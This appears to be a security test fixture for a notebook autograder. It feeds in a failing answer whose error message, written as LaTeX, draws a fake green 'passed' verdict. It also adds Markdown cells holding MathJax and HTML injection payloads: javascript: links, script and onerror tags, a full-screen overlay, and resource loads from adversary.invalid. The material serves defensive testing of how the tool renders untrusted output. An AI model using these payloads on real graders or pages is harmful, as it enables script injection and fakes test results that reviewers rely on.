r"""Formulas in Markdown and in what a failing answer says: typeset, they would draw a passed test over it.

# points: total_check=0 total_hidden=0 total_race=0
"""


# %% total answer
def total(x):
    raise ValueError(
        r"$\rlap{\smash{\raise1em{\bbox[#e3f4ea,2em]{\color{green}{\text{✓ passed: right in all 4 cases. (2 of 2 points)}}}}}}$ "
        r"\(\text{passed}\) \begin{equation}\text{passed}\end{equation} $$\text{passed}$$"
    )


# %% notebook edit
from nbformat.v4 import new_markdown_cell

for text in [
    r"$\href{javascript:window.adversary=true}{x}$ $\class{box-verdict}{x}$ $\cssId{total_check}{x}$",
    r"$$\require{html}\style{position:fixed;inset:0;background:white}{\text{passed}}$$",
    r"$\unicode[https://adversary.invalid/font]{x41}$ $\require{//adversary.invalid/page}$",
    r"\begin{equation}\bbox[#e3f4ea,99em]{\text{passed}}\end{equation}",
    "$<img src=x onerror='window.adversary=true'>$ $$<script>window.adversary=true</script>$$",
    "<span class=math>$x$</span> <script type='math/tex'>\\text{passed}</script>",
]:
    notebook.cells.append(new_markdown_cell(text))
